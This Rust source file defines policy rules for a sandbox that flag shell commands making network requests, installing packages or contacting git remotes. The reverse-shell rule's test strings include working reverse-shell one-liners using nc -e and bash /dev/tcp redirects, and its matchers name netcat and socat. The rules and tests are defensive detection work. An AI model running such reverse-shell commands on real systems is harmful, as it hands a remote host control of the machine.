//! Network access.

use super::super::{Category::*, Matcher, PolicyRule, Severity::*, commands};

pub(super) static RULES: &[PolicyRule] = &[
    PolicyRule {
        id: "SH-DOWNLOAD",
        category: Network,
        severity: Low,
        message: "`{}` makes a network request",
        suggestion: "request network access (--network HOST or --network internet), or pass the data as files",
        matchers: &[Matcher::Command(&["curl", "wget", "aria2c", "http", "https", "lynx"])],
        matches: &["curl http://a", "c\"ur\"l http://a", "timeout 5 wget http://a"],
        non_matches: &["echo curl", "man wget"],
    },
    PolicyRule {
        id: "SH-REVERSE-SHELL",
        category: Network,
        severity: Critical,
        message: "`{}` can give a remote host a shell",
        suggestion: "remove it; nothing in a sandbox needs it",
        matchers: &[
            Matcher::CommandWith(&["nc", "ncat", "netcat", "socat"], commands::executes_program_on_connect),
            Matcher::Redirect(commands::is_network_file),
        ],
        matches: &[
            "nc -e /bin/sh 1.2.3.4 80",
            "bash -i >& /dev/tcp/1.2.3.4/80 0>&1",
            "echo a > /dev/tcp/1.2.3.4/80",
        ],
        non_matches: &["nc -z host 80", "echo /dev/tcp"],
    },
    PolicyRule {
        id: "SH-CONNECT",
        category: Network,
        severity: Medium,
        message: "`{}` opens a network connection",
        suggestion: "request network access (--network HOST or --network internet), or pass the data as files",
        matchers: &[Matcher::Command(&[
            "nc", "ncat", "netcat", "socat", "telnet", "ssh", "scp", "sftp", "rsync", "ftp", "ping", "dig",
            "nslookup", "nmap",
        ])],
        matches: &["ssh a@b", "ping -c 1 a"],
        non_matches: &["echo ssh", "ssh-keygen -t ed25519"],
    },
    PolicyRule {
        id: "SH-INSTALL",
        category: Network,
        severity: Low,
        message: "`{}` downloads packages",
        suggestion: "list packages with --dep, or use an image that contains them",
        matchers: &[Matcher::CommandWith(
            &[
                "pip", "pip3", "npm", "yarn", "pnpm", "apt", "apt-get", "apk", "dnf", "yum", "brew", "gem",
                "cargo", "go", "conda", "uv",
            ],
            commands::installs_packages,
        )],
        matches: &["pip install requests", "sudo apt-get -y install curl"],
        non_matches: &["pip list", "npm test", "cargo build"],
    },
    PolicyRule {
        id: "SH-GIT",
        category: Network,
        severity: Low,
        message: "`{}` connects to a server",
        suggestion: "request network access (--network HOST or --network internet), or pass the data as files",
        matchers: &[Matcher::CommandWith(&["git"], commands::git_remote)],
        matches: &["git clone http://a", "git -q pull"],
        non_matches: &["git status", "git log clone"],
    },
];
